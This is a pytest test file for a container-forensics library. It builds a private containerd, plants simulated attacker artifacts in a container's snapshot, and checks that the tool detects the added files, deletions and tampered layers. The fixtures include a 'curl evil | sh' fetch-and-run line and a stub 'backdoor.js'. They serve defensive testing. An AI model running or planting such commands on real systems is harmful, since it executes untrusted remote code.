"""Real containerd evidence read offline: a private containerd imports an image and creates a
container, the container's writable snapshot gets an implant and a deletion, the daemon stops,
and ``open_host`` reads what it left under its root."""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import REPO_ROOT, merged_view, require_engine, tree_digest

import layerforensics as lf
from layerforensics.errors import LayerForensicsError
from layerforensics.host import open_host

IMAGE = REPO_ROOT / "data" / "classic-secret.tar"
TAG = "docker.io/example/classic-secret:1.0"


@pytest.fixture(scope="module")
def containerd_tree() -> Iterator[tuple[Path, Path]]:
    """``(root, upperdir)`` of a stopped private containerd holding one image and one container."""
    require_engine("containerd")
    base = Path(tempfile.mkdtemp(prefix="lfctd-"))  # short: the socket path has a length limit
    root, sock = base / "root", base / "c.sock"
    (base / "config.toml").write_text(
        "version = 2\n"
        f'root = "{root}"\nstate = "{base / "state"}"\n'
        'disabled_plugins = ["io.containerd.grpc.v1.cri"]\n'
        f'[grpc]\n  address = "{sock}"\n'
    )
    daemon = subprocess.Popen(
        ["containerd", "--config", str(base / "config.toml")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )

    def ctr(*args: str) -> str:
        proc = subprocess.run(
            ["ctr", "-a", str(sock), "-n", "default", *args], capture_output=True, text=True
        )
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    try:
        for _ in range(300):  # up to 30 s for the daemon to answer
            if (
                sock.exists()
                and subprocess.run(
                    ["ctr", "-a", str(sock), "version"], capture_output=True
                ).returncode
                == 0
            ):
                break
            time.sleep(0.1)
        ctr("images", "import", str(IMAGE))
        ctr("containers", "create", TAG, "web1")
        mounts = ctr("snapshots", "--snapshotter", "overlayfs", "mounts", "/mnt", "web1")
        upper = Path(re.search(r"upperdir=([^,\s]+)", mounts).group(1))
    finally:
        daemon.send_signal(signal.SIGTERM)
        daemon.wait(timeout=30)
    # what the container did: an implant, and the app's entry point deleted (an overlay
    # whiteout is a 0/0 character device)
    (upper / "root").mkdir(mode=0o700)
    (upper / "root" / "implant.sh").write_text("curl evil | sh\n")
    (upper / "app").mkdir()
    os.mknod(upper / "app" / "server.js", 0o600 | 0o020000, os.makedev(0, 0))
    yield root, upper
    shutil.rmtree(base, ignore_errors=True)


def test_containerd_images_and_container_drift(containerd_tree: tuple[Path, Path]) -> None:
    root, upper = containerd_tree
    before = tree_digest(root)
    saved = lf.open_image(IMAGE)
    with open_host(root) as host:
        assert [r.kind for r in host.roots] == ["containerd"]
        images = host.images
        assert images["tags"].tolist() == [[TAG]]
        assert images["image_id"].tolist() == [saved.image_id]
        img = host.image(TAG)
        # the unpacked snapshots give the same merged filesystem and deletions as the archive
        assert merged_view(img) == merged_view(saved)
        assert sorted(img.deleted["path"]) == sorted(saved.deleted["path"])
        assert img.read("/app/.env", layer=3) == saved.read("/app/.env", layer=3)

        containers = host.containers
        assert containers["name"].tolist() == ["web1"]
        assert containers["image"].tolist() == [TAG]
        assert containers["image_id"].tolist() == [saved.image_id]
        assert containers["created"].notna().all()
        assert containers["command"].tolist() == ["node /app/server.js"]
        assert containers["upper_dir"].iloc[0] == str(upper.relative_to(root))

        web = host.container("web1")
        changes = web.changes
        added = set(changes.loc[changes["change"] == "added", "path"])
        deleted = set(changes.loc[changes["change"] == "deleted", "path"])
        assert added == {"/root/implant.sh"}
        assert deleted == {"/app/server.js"}
        assert web.read("/root/implant.sh") == b"curl evil | sh\n"
        assert "/app/server.js" not in set(web.filesystem()["path"])
        timeline = host.timeline()
        assert "container-created" in set(timeline["event"].astype(str))
        # every unpacked layer matches the blob in the content store it was unpacked from
        assert host.verify().empty
    assert tree_digest(root) == before  # evidence untouched


def _copy(root: Path, tmp_path: Path) -> Path:
    """A copy of the evidence to damage (``cp -a`` keeps the whiteout devices)."""
    copy = tmp_path / "root"
    subprocess.run(["cp", "-a", str(root), str(copy)], check=True)
    return copy


def test_containerd_damaged_metadata_database(
    containerd_tree: tuple[Path, Path], tmp_path: Path
) -> None:
    copy = _copy(containerd_tree[0], tmp_path)
    db = copy / "io.containerd.metadata.v1.bolt" / "meta.db"
    db.write_bytes(db.read_bytes()[:3000])
    with open_host(copy) as host, pytest.raises(LayerForensicsError, match="meta.db"):
        host.images  # noqa: B018


def test_containerd_layer_tampered_after_the_pull(
    containerd_tree: tuple[Path, Path], tmp_path: Path
) -> None:
    copy = _copy(containerd_tree[0], tmp_path)
    snapshots = copy / "io.containerd.snapshotter.v1.overlayfs" / "snapshots"
    # one image layer writes it (the container's snapshot holds its whiteout, not a file)
    [server] = [p for p in snapshots.glob("*/fs/app/server.js") if p.is_file()]
    data = bytearray(server.read_bytes())
    data[0] ^= 0x20  # same size, same mtime: only the content differs
    stat = server.stat()
    server.write_bytes(bytes(data))
    os.utime(server, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    (server.parent / "backdoor.js").write_text("require('child_process')\n")
    with open_host(copy) as host:
        problems = host.verify()
        found = {(p, str(k)) for p, k in zip(problems["path"], problems["problem"], strict=True)}
        assert found == {("/app/server.js", "modified"), ("/app/backdoor.js", "added")}
        saved = lf.open_image(IMAGE)
        layer = saved.files[saved.files["path"] == "/app/server.js"]["layer"].iloc[0]
        assert set(problems["layer"]) == {layer}
